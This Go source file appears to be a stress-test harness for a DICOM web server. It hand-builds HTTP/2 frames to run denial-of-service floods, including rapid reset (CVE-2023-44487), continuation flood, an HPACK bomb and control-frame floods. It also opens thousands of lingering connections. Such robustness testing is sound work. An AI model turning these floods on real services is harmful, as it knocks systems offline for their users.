//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/noctis-dicom/noctis/dicom"
)

// Attacks by connections, and by what goes on upon one.

// frame is one of HTTP/2 (RFC 9113 4.1).
func frame(kind, flags byte, stream uint32, payload ...byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = binary.BigEndian.AppendUint32(append(b, flags), stream)
	return append(b, payload...)
}

// The kinds of frames, and their flags.
const (
	h2Data, h2Headers, h2Priority, h2Reset, h2Settings, h2Ping, h2WindowUpdate, h2Continuation = 0, 1, 2, 3, 4, 6, 8, 9

	h2EndStream, h2EndHeaders = 1, 4
)

// fields is a block of header fields (RFC 7541) that asks for a path; more are fields in that form.
func fields(method byte, path string, more ...byte) []byte {
	b := append([]byte{0x80 | method, 0x86, 0x04, byte(len(path))}, path...)
	return append(append(b, 0x01, 1, 'x'), more...)
}

const h2Get, h2Post = 2, 3

// h2Flood is what is sent on one connection: first once, then again for each stream.
type h2Flood struct {
	first   []byte
	each    func(stream uint32) []byte
	streams int
	reads   bool // what is answered; else it is left where it is
}

func h2Floods(path string) []h2Flood {
	get, post := fields(h2Get, path), fields(h2Post, "/dicom-web/studies")
	open := func(block []byte, flags byte) func(uint32) []byte {
		return func(stream uint32) []byte { return frame(h2Headers, h2EndHeaders|flags, stream, block...) }
	}
	with := func(first func(uint32) []byte, then ...func(uint32) []byte) func(uint32) []byte {
		return func(stream uint32) []byte {
			b := first(stream)
			for _, f := range then {
				b = append(b, f(stream)...)
			}
			return b
		}
	}
	reset := func(stream uint32) []byte { return frame(h2Reset, 0, stream, 0, 0, 0, 8) }
	again := func(b []byte) func(uint32) []byte { return func(uint32) []byte { return b } }
	large := bytes.Repeat([]byte{'a'}, 16<<10)
	// A field of 4 KB that goes into the table, and then is named by its number, 4,000 times for as many bytes.
	const room = 3900
	entry := append(append([]byte{0x40, 1, 'a', 0x7F}, 0xFF&(room-127)|0x80, (room-127)>>7), bytes.Repeat([]byte{'b'}, room)...)
	bomb := append(append(get, entry...), bytes.Repeat([]byte{0xBE}, 4000)...)
	noWindow := frame(h2Settings, 0, 0, 0, 4, 0, 0, 0, 0)
	return []h2Flood{
		{nil, with(open(get, h2EndStream), reset), 20_000, true},                                                             // rapid reset, CVE-2023-44487
		{nil, with(open(post, 0), func(s uint32) []byte { return frame(h2Data, 0, s, large[:1000]...) }, reset), 5000, true}, // of uploads
		{frame(h2Headers, 0, 1, get...), again(frame(h2Continuation, 0, 1, large...)), 2000, true},                           // continuation flood, CVE-2023-45288
		{frame(h2Headers, 0, 1, get...), again(frame(h2Continuation, 0, 1)), 100_000, true},                                  // of nothing
		{nil, func(s uint32) []byte { return frame(h2Headers, h2EndHeaders|h2EndStream, s, bomb...) }, 100, true},            // of the table of fields
		{nil, again(frame(h2Ping, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8)), 100_000, false},                                            // answers that nobody reads
		{nil, again(frame(h2Settings, 0, 0, 0, 4, 0, 0, 0xFF, 0xFF)), 100_000, false},                                        // the same
		{noWindow, open(get, h2EndStream), 250, false},                                                                       // answers without room
		{nil, open(get, h2EndStream), 20_000, false},                                                                         // more streams than are allowed
		{frame(h2Headers, h2EndHeaders, 1, post...), again(frame(h2Data, 0, 1)), 100_000, true},                              // data of nothing
		{nil, open(post, 0), 250, true},                                                                                      // bodies that do not come
		{nil, again(frame(h2Priority, 0, 1, 0, 0, 0, 0, 1)), 100_000, true},
		{nil, again(frame(h2WindowUpdate, 0, 0, 0x7F, 0xFF, 0xFF, 0xFF)), 100, true},
	}
}

// run sends it, for a few seconds at most, and lets go.
func (f h2Flood) run(h *siege) error {
	c, err := net.DialTimeout("tcp", strings.TrimPrefix(h.url, "http://"), 10*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second)) //nolint:errcheck // a TCP connection has deadlines
	if f.reads {
		go io.Copy(io.Discard, c) //nolint:errcheck // until it closes
	}
	begin := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(h2Settings, 0, 0)...)
	if _, err := c.Write(append(begin, f.first...)); err != nil {
		return nil //nolint:nilerr // it hangs up
	}
	var some []byte
	for i := range f.streams {
		some = append(some, f.each(uint32(2*i+1))...)
		h.tries.Add(1)
		if len(some) > 32<<10 || i == f.streams-1 {
			if _, err := c.Write(some); err != nil {
				return nil //nolint:nilerr // it hangs up, or reads no more
			}
			some = some[:0]
		}
	}
	time.Sleep(200 * time.Millisecond) // it is answered meanwhile
	return nil
}

func h2Attacks(h *siege) ([]func() error, error) {
	ref, file := instance("floods", dicom.ExplicitVRLittleEndian, [][]byte{make([]byte, 128)})
	if response, text := h.stowFile(file); response == nil || response.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("it was not stored: %s", text)
	}
	floods := append(h2Floods("/dicom-web/studies"), h2Floods("/dicom-web/studies/"+string(ref.Study))...)
	var mu sync.Mutex
	n := 0
	return twice(func() error {
		mu.Lock()
		f := floods[n%len(floods)]
		n++
		mu.Unlock()
		return f.run(h)
	}), nil
}

const (
	listeners   = 1000 // of each kind
	subscribers = 1000
)

// listen opens connections that stay, each with a request of its own, and returns how to let go of them.
func (h *siege) listen(many int, request func(i int) string) (hangUp func(), err error) {
	var open []net.Conn
	hangUp = func() {
		for _, c := range open {
			c.Close()
		}
	}
	for i := range many {
		c, err := net.DialTimeout("tcp", strings.TrimPrefix(h.url, "http://"), 10*time.Second)
		if err != nil {
			hangUp()
			return nil, err
		}
		open = append(open, c)
		h.tries.Add(1)
		go io.Copy(io.Discard, c) //nolint:errcheck // until it closes
		fmt.Fprint(c, request(i))
	}
	return hangUp, nil
}

// manyListeners subscribes thousands to the worklist, and lets thousands listen to it and to the change feed while studies come in.
func manyListeners(h *siege) ([]func() error, error) {
	for i := range subscribers {
		response, text := h.send("POST", fmt.Sprintf("/dicom-web/workitems/1.2.840.10008.5.1.4.34.5/subscribers/AE%d", i), nil, nil)
		h.wants(response, text, "a subscription", append(refused, http.StatusCreated)...)
	}
	hangUp, err := h.listen(listeners, func(i int) string {
		return fmt.Sprintf("GET /dicom-web/subscribers/AE%d HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", i)
	})
	if err != nil {
		return nil, err
	}
	h.lab.later(hangUp)
	hangUp, err = h.listen(listeners, func(int) string {
		return "GET /dicom-web/changes HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n\r\n"
	})
	if err != nil {
		return nil, err
	}
	h.lab.later(hangUp)
	var mu sync.Mutex
	n := 0
	return twice(func() error {
		mu.Lock()
		n++
		in := newSample(fmt.Sprint("heard of ", n), "", "", 1, 16)
		mu.Unlock()
		response, text := h.stowFile(in.bytes)
		h.wants(response, text, "a study that many hear of", append(refused, http.StatusOK)...)
		response, text = h.send("GET", "/dicom-web/changes?wait=1&limit=10000", nil, nil)
		h.wants(response, text, "changes", append(refused, http.StatusOK)...)
		return nil
	}), nil
}
